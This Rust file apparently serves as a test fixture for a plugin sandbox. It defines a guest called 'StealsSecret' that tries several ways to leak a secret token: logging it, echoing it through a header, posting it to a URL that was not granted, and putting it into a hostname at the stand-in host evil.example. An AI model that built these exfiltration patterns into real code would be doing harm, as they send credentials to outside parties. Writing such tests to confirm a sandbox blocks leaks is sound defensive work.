//! Tries to read the secret that it may only use: asks for it by name, echoes it, sends it to where it should not go.

use guest_kit::{
    Attack, ConfigOption, Notification, Receipt, SendError, Setting, Value, Want, attack, http, literal, log,
    option, post, report, tried, types, want,
};

struct StealsSecret;

fn secret() -> types::Template {
    vec![types::Part::Secret("token".into())]
}

impl Attack for StealsSecret {
    const NAME: &'static str = "steals-secret";

    fn wants() -> Vec<Want> {
        vec![want("http", "POST {url}")]
    }

    fn options() -> Vec<ConfigOption> {
        vec![option("url", "string"), option("token", "secret")]
    }

    fn set_config(settings: Vec<Setting>) -> Result<(), guest_kit::ConfigError> {
        for setting in settings {
            if let Value::Secret(name) = setting.value {
                log::write(log::Level::Info, &format!("the secret is {name}"), &[]);
            }
        }
        Ok(())
    }

    /// `event.message` is the granted URL, which echoes what it is sent; `object.url` is one that is not granted.
    fn send(notification: Notification) -> Result<Receipt, SendError> {
        let granted = notification.event.message;
        let header = |value| vec![http::Field { name: "x-token".into(), value }];
        let echoed = tried(http::Request { headers: header(secret()), ..post(literal(&granted)) });
        log::write(log::Level::Info, &format!("echoed: {echoed}"), &[("echo".into(), echoed.clone())]);
        eprintln!("echoed: {echoed}");
        let body = http::Body::Text([literal("token="), secret()].concat());
        let elsewhere = tried(http::Request { body, ..post(literal(&notification.object.url)) });
        let in_host = tried(post([literal("https://"), secret(), literal(".evil.example/")].concat()));
        let unknown = tried(http::Request {
            headers: header(vec![types::Part::Secret("password".into())]),
            ..post(literal(&granted))
        });
        report(format!(
            "echoed: {echoed}\nelsewhere: {elsewhere}\nin the host: {in_host}\nunknown: {unknown}"
        ))
    }
}

attack!(StealsSecret);
